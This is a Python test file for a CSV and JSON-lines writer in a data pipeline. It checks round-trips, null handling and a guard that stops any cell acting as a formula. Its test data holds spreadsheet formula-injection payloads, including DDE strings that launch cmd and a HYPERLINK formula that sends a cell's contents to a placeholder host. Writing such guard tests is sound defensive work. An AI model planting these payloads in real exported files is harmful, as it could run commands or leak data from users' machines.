"""CSV and JSON lines: what goes in comes out again, and no cell is a formula."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pyarrow as pa
import pyarrow.csv as arrow_csv
import pytest
from harness import layout_of
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline_kit.files.json_text import json_line
from pipeline_kit.files.write.base import OutputConfig, UnwritableRowsError
from pipeline_kit.files.write.formats import ShardFormat, shard_format
from pipeline_kit.files.write.layout import Layout
from pipeline_kit.files.write.text import csv_cell, strip_formula_guard

QUIET = settings(deadline=None, derandomize=True, max_examples=80)
LAYOUT = layout_of("classification", carry=["text"])
TEXTS = [
    'two\nlines, "quoted"', "a\r\nb", "a\rb", "日本 😀 é e\u0301", "\u2028\x85", "", " padded ", '"', ",", "\x00", "'",
    "''", "null", "true", "1e5", "<script>", "\x1b[31mred\x07",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@foo",
    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1", "=", "+", "-", "@", "\t", "\r", '=HYPERLINK("http://x/?"&A1,"more")',
    "- a dash", "'=1+1", "''@x", "+1 234", "-1-1", "-", "=-5", "- 5", "+٣",
]  # fmt: skip

NULLS = arrow_csv.ConvertOptions(
    column_types={"text": pa.string()}, null_values=[""], strings_can_be_null=True, quoted_strings_can_be_null=False
)


def made(format: str = "csv", layout: Layout = LAYOUT) -> ShardFormat:
    return shard_format(OutputConfig(format=format), layout)


def encoded(rows: list[Any], format: str = "csv", layout: Layout = LAYOUT) -> bytes:
    shards = made(format, layout)
    (data,) = shards.encode(rows, shards.schema(rows)).values()
    return data


def row(text: Any, **more: Any) -> dict[str, Any]:
    return {"id": "7", "text": text, "label": "POSITIVE", "score": 0.25, **more}


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


def test_bytes_are_as_the_rfc_says() -> None:
    data = encoded([row('a "b"\nc', labels=[{"label": "x", "score": 1.5}]), row(None, truncated=3)])
    assert data == (
        b"id,text,label,score,labels,truncated,truncated_chars,windows\r\n"
        b'7,"a ""b""\nc",POSITIVE,0.25,"[{""label"": ""x"", ""score"": 1.5}]",,,\r\n'
        b"7,,POSITIVE,0.25,,3,,\r\n"
    )


@pytest.mark.parametrize("text", [*TEXTS, *FORMULAS])
def test_any_text_comes_back_through_every_reader(text: str) -> None:
    rows = [row(text), row("after")]
    data = encoded(rows)
    assert [strip_formula_guard(found["text"]) for found in read(data)] == [text, "after"]
    options = arrow_csv.ParseOptions(newlines_in_values=True)
    table = arrow_csv.read_csv(io.BytesIO(data), parse_options=options, convert_options=NULLS)
    assert [strip_formula_guard(found) for found in table["text"].to_pylist()] == [text, "after"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    (found,) = read(encoded([row(text, label=text)]))
    assert found["text"] == found["label"] == "'" + text
    assert strip_formula_guard(found["text"]) == text
    (same,) = [json.loads(line) for line in encoded([row(text)], "jsonl").splitlines()]
    assert same["text"] == text


@pytest.mark.parametrize("value", [-0.5, -3, "-0.5", "-3", "+4.25e-7", 1e22, -1e-9, True, None])
def test_numbers_are_left_alone(value: Any) -> None:
    assert csv_cell(value) == ("" if value is None else "true" if value is True else str(value))


def test_names_of_columns_are_cells_too() -> None:
    layout = layout_of("generated_text", carry=["=cmd()", 'a,"b"'])
    header = encoded([], layout=layout)
    assert next(csv.reader([header.decode()]))[:3] == ["id", "'=cmd()", 'a,"b"']


def test_null_and_an_empty_text_differ() -> None:
    assert (csv_cell(None), csv_cell("")) == ("", '""')
    table = arrow_csv.read_csv(io.BytesIO(encoded([row(None), row("")])), convert_options=NULLS)
    assert table["text"].to_pylist() == [None, ""]


def test_what_was_written_can_be_the_input_of_another_run() -> None:
    texts = ["one, two", 'a "quote"', "two\nlines", "日本 😀", "plain"]
    from pipeline_kit.files.read.columns import Columns
    from pipeline_kit.files.read.paths import read_records

    stream = io.BytesIO(encoded([row(text) for text in texts]))
    columns = Columns.of(["text"])
    assert list(read_records(stream, format="csv", columns=columns)) == [{"text": text} for text in texts]


@QUIET
@given(st.lists(st.text(), min_size=1, max_size=6))
def test_any_texts_round_trip(texts: list[str]) -> None:
    texts = [text.encode("utf-8", "ignore").decode() for text in texts]
    rows = [row(text, score=place / 7) for place, text in enumerate(texts)]
    found = read(encoded(rows))
    assert [strip_formula_guard(cells["text"]) for cells in found] == texts
    assert [float(cells["score"]) for cells in found] == [place / 7 for place in range(len(texts))]
    lines = encoded(rows, "jsonl").decode().split("\n")
    assert [json.loads(line) for line in lines[:-1]] == rows
    assert lines[-1] == ""


@QUIET
@given(
    st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False), st.lists)
)
def test_nested_values_are_json_in_the_cell(value: Any) -> None:
    (found,) = read(encoded([row("x", labels=[value])]))
    assert json.loads(found["labels"]) == [value]


@pytest.mark.parametrize("format", ["jsonl", "csv"])
def test_the_same_rows_give_the_same_bytes_and_none_give_no_row(format: str) -> None:
    rows = [row("a"), row("b", truncated=1)]
    assert encoded(rows, format) == encoded(json.loads(json.dumps(rows)), format)
    assert encoded([], format).count(b"\n") == (1 if format == "csv" else 0)
    assert made(format).suffix == f".{format}"


def test_what_cannot_be_written_is_named_row_by_row_and_the_rest_is_not_harmed() -> None:
    deep: Any = []
    for _ in range(100_000):
        deep = [deep]
    bad = {1: row("a", score=float("nan")), 2: row("b", labels=[{1, 2}]), 4: row("c", labels=deep)}
    rows = [bad.get(place, row("fine")) for place in range(6)]
    for format in ("jsonl", "csv"):
        shards = made(format)
        with pytest.raises(UnwritableRowsError) as caught:
            shards.encode(rows, shards.schema(rows))
        assert [failure.index for failure in caught.value.failures] == [1, 2, 4]
        assert {failure.stage for failure in caught.value.failures} == {"output"}
        assert "row 1 cannot be written" in str(caught.value)
        assert "nested too deep" in caught.value.failures[2].message
        good = [item for place, item in enumerate(rows) if place not in bad]
        assert shards.encode(good, shards.schema(rows))


def test_lone_surrogates() -> None:
    surrogate = row("\ud800")
    assert json.loads(encoded([surrogate], "jsonl")) == surrogate
    assert json_line("\ud800") == '"\\ud800"'
    with pytest.raises(UnwritableRowsError, match="column 'text': the text has a lone surrogate"):
        encoded([row("fine"), surrogate])


def test_a_key_that_has_no_column_is_not_dropped() -> None:
    with pytest.raises(UnwritableRowsError, match=r"row 1 .*the key 'extra' is not a column of this file"):
        encoded([row("a"), row("b", extra=1)])
    open_layout = Layout.of(None)
    shards = made("csv", open_layout)
    schema = json.loads(json.dumps(shards.schema([{"id": 1, "label": "a", "loud": 2}])))
    first = shards.encode([{"id": 1, "label": "a"}], schema)
    assert first[".csv"].startswith(b"id,label,loud,truncated")
    with pytest.raises(UnwritableRowsError, match="'quiet' is not a column"):
        shards.encode([{"id": 1, "label": "a", "quiet": 2}], schema)
